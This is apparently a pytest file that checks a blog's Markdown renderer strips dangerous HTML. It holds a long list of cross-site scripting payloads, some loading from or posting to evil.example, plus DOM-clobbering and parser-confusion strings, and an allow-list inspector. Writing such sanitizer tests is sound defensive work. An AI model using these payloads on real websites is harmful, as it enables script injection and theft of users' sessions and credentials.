"""What an editor may type to run a script, lay a trap or leave the text's own corner. None of it comes through.

The rules are written out here, not read from the allow-list: their job is to disagree with it.
"""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from blog.markup import render

pytestmark = pytest.mark.no_database

ALLOWED_TAGS = re.findall(
    r"\w+",
    """
    a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure
    h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td
    tfoot th thead time tr u ul var wbr
    """,
)
ALLOWED_ATTRIBUTES = re.findall(
    r"[\w-]+",
    """
    alt aria-label checked class colspan data-lang datetime decoding dir disabled fetchpriority height href id lang
    loading open referrerpolicy rel reversed role rowspan scope span src start tabindex title type value width
    """,
)
ADDRESSES = ("href", "src")

VECTORS = [
    # Scripts and other elements
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password type=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<portal src=//evil.example></portal><marquee onstart=alert(1)>x</marquee>",
    "<dialog open>x</dialog><slot name=x></slot><x-element onclick=alert(1)>x</x-element>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<body onload=alert(1)>",
    "<html manifest=//evil.example>",
    # Event handlers and styles
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oneRRor\n=\nalert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a href='x' onclick=alert(1) onfocus=alert(1) autofocus tabindex=1 accesskey=x>y</a>",
    "<div tabindex=99 role=alert aria-live=assertive contenteditable draggable=true>x</div>",
    '<img title="><img src=x onerror=alert(1)>" src=y>',
    "<b/onclick=alert(1)>x</b>",
    "<b \x00onclick=alert(1)>x</b>",
    "<b title=`onclick=alert(1)`>x</b>",
    # Addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<  javascript:alert(1)>)",
    "[x](javascript://example.com/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](mailto:a@example.org)",
    "<javascript:alert(1)>",
    "<javascript://example.org/%0aalert(1)>",
    "<data:text/html,x>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'z'",
    "![x][y]\n\n[y]: data:text/html,x",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "<a href='\u3000javascript:alert(1)'>x</a>",
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="x" ping="//evil.example" target="_blank" download>y</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<q cite="data:text/html,x">x</q>',
    '<img src=x srcset="//evil.example 1x" longdesc="javascript:alert(1)" usemap="#m">',
    "https://example.org/\"onmouseover=alert(1)",
    "https://example.org/'><img src=x onerror=alert(1)>",
    "https://example.org/<script>alert(1)</script>",
    # Breaking out of what Markdown writes
    '[x](y "z\\" onmouseover=alert(1) \\"")',
    "[x](y 'z\" onmouseover=\"alert(1)')",
    '![x" onerror="alert(1)](y)',
    "![x](y\"onerror=\"alert(1))",
    "![<img src=x onerror=alert(1)>](y)",
    "[<img src=x onerror=alert(1)>](y)",
    '[x]: y "z\\" onclick=alert(1)"\n\n[x]',
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>``",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "``` {.python onclick=alert(1) #constructor}\nx\n```",
    '```python title="<img src=x onerror=alert(1)>"\nx\n```',
    "```python title='\" onclick=alert(1) x=\"'\nx\n```",
    "```python hl_lines='1\" onclick=alert(1)'\nx\n```",
    "~~~</code></pre><script>alert(1)</script>\nx\n~~~",
    "    <script>alert(1)</script>",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
    '*[HTML]: x" onclick="alert(1)\n\nHTML',
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! "x" onclick\n    x',
    "> [!<script>alert(1)</script>]\n> x",
    "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
    "a\n: <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b onclick=1>` |",
    "# <script>alert(1)</script>",
    '# "><img src=x onerror=alert(1)>',
    "# x {onclick=alert(1)}",
    "- [x] <script>alert(1)</script>",
    # Attribute lists
    "x\n{: onclick=alert(1) }",
    "*x*{: onmouseover='alert(1)' style='color:red' }",
    "[x](y){: href=javascript:alert(1) target=_blank }",
    "![x](y){: onerror=alert(1) srcset=z }",
    "# x {: id=location name=location }",
    "*x*{: x\"onclick=alert(1)\"y }",
    "*x*{: title='\"><script>alert(1)</script>' }",
    # Taking the page's own names
    "<img id=location name=location src=x>",
    "<a id=document name=document href=x>x</a><a id=document>y</a>",
    "<form id=x><input name=attributes></form>",
    "# csrfmiddlewaretoken",
    "# x {#__proto__}",
    "# x {#location}",
    "<p id='main'>x</p>",
    "<p id='in-main'>x</p>",
    "<p id=' x y '>x</p><p id='\"onclick=alert(1)'>x</p>",
    "<div data-moves='publish' data-url='//evil.example' hx-get='/x' x-data='alert(1)'>x</div>",
    # Markdown inside HTML
    "<div markdown onclick=alert(1)>\n**x**\n</div>",
    "<div markdown=1 style='x'>\n\n<script>alert(1)</script>\n\n</div>",
    "<figure markdown='span' onclick=alert(1)>\n![x](javascript:alert(1))\n</figure>",
    "<script markdown>alert(1)</script>",
    "<svg markdown><script>alert(1)</script></svg>",
    "<p markdown>\n<img src=x onerror=alert(1)>\n</p>",
    # Foreign content and parsers that disagree
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)><a id=x></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)><!---->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?><? <img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<p><table><tr><td><p></table><img src=x onerror=alert(1)>",
    "<a href='x'><a href='javascript:alert(1)'>y</a></a>",
    "<<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<img src='x\n\nonerror=alert(1)'>",
    "<b title='\n\n' onclick=alert(1)>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "\x02wzxhzdk:0\x03<div>x</div>\x02wzxhzdk:0\x03",
    "\x02klzzwxh:0000\x03 `<script>alert(1)</script>`",
    "\x0260\x03script\x0262\x03alert(1)",
    "\ufeff<script>alert(1)</script>",
    "<scrıpt>alert(1)</scrıpt><ſcript>alert(1)</ſcript>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]  # fmt: skip


class Inspector(HTMLParser):
    """Collects what must not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            self.look_at(tag, name, value or "")

    def look_at(self, tag: str, name: str, value: str) -> None:
        if name not in ALLOWED_ATTRIBUTES:
            self.faults.append(f"{name}={value}")
        if name == "id" and not value.startswith("in-"):
            self.faults.append(f"id={value}")
        if name in ADDRESSES and (scheme_of(value) or "") not in ("", "http", "https", "mailto"):
            self.faults.append(f"{name}={value}")
        if name in ("tabindex", "role") and tag not in ("pre", "div", "a"):
            self.faults.append(f"{name} on <{tag}>")
        if name == "tabindex" and value != "0":
            self.faults.append(f"tabindex={value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}")


def scheme_of(address: str) -> str | None:
    """Return the scheme as a browser sees it: without control characters, spaces around and letter case."""
    seen = "".join(character for character in address if character not in "\t\n\r").strip("".join(map(chr, range(33))))
    return urlsplit(seen).scheme.lower() if ":" in seen.split("/")[0] else None


def faults_of(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults


AROUND = {
    "alone": "{}",
    "in a list": "- a\n\n  {}\n- b",
    "in a quote": "> {}",
    "in Markdown in HTML": "<div markdown>\n\n{}\n\n</div>",
    "after a paragraph": "a\n{}\nb",
}


@pytest.mark.parametrize("around", AROUND.values(), ids=AROUND)
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_dangerous_comes_out(vector: str, around: str) -> None:
    indent = "\n> " if around.startswith(">") else "\n  " if around.startswith("-") else "\n"

    html = render(around.format(vector.replace("\n", indent)))

    assert faults_of(html) == []


def test_the_inspector_would_notice() -> None:
    for html in (
        "<script>", "<b onclick=x>", "<a href=javascript:x>", "<a href=' JAVA\tscript:x'>", "<img src=data:x>", "<p id=x>",
        "<!-- x -->", "<p style=x>", "<pre tabindex=5>", "<svg>", "<p data-x=y>",
    ):  # fmt: skip
        assert faults_of(html), html


def test_all_vectors_in_one_text_are_no_worse_together() -> None:
    assert faults_of(render("\n\n".join(VECTORS))) == []


def test_boxes_are_boxes_whatever_was_typed() -> None:
    html = render("<input type=password name=p value=v autofocus>")

    assert html == '<p><input type="checkbox" disabled="" aria-label="To do"></p>'


def test_ids_are_prefixed_once_each_and_never_doubled() -> None:
    html = render("<p id=a>x</p>\n\n<p id=a>y</p>\n\n# a {#b}\n\n[z](#b)")

    assert html.count('id="in-a"') == 1
    assert 'id="in-b"' in html
    assert 'href="#in-b"' in html


def test_a_picture_without_an_address_leaves_its_words() -> None:
    assert render("![a cat](javascript:alert(1))") == "<p>a cat</p>"


@pytest.mark.parametrize(
    "name", ["visually-hidden", "permalink", "button", "callout", "on-screen", "table-scroll", "nav"]
)
def test_a_text_cannot_dress_up_as_a_part_of_the_page_or_hide_its_words(name: str) -> None:
    html = render(f'<p class="{name} note">Words.</p>\n\n!!! note "{name}"\n    Words.')

    assert f'class="{name}' not in html
    assert 'class="note"' in html
    assert 'class="admonition note"' in html
